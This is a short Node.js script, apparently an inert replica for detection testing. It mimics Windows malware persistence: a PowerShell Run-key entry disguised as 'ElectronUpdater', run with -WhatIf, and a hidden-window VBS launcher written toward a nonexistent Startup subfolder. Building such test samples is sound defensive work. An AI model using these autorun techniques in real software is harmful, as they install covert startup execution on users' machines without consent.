const { exec } = require('child_process');
const path = require('path');
if (process.platform === 'win32') {
  const payload = path.join(process.env.APPDATA || '', 'Updater', 'nonexistent', 'updater.exe');
  // inert replica: -WhatIf makes PowerShell only describe the change
  exec(`powershell -NoProfile -Command "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'ElectronUpdater' -Value '${payload}' -PropertyType String -Force -WhatIf"`, () => {});
  exec(`reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ElectronUpdater`, () => {});
  const startup = path.join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'nonexistent', 'updater.vbs');
  try { require('fs').writeFileSync(startup, 'CreateObject("WScript.Shell").Run "cmd /c echo updater", 0'); } catch (e) {}
}
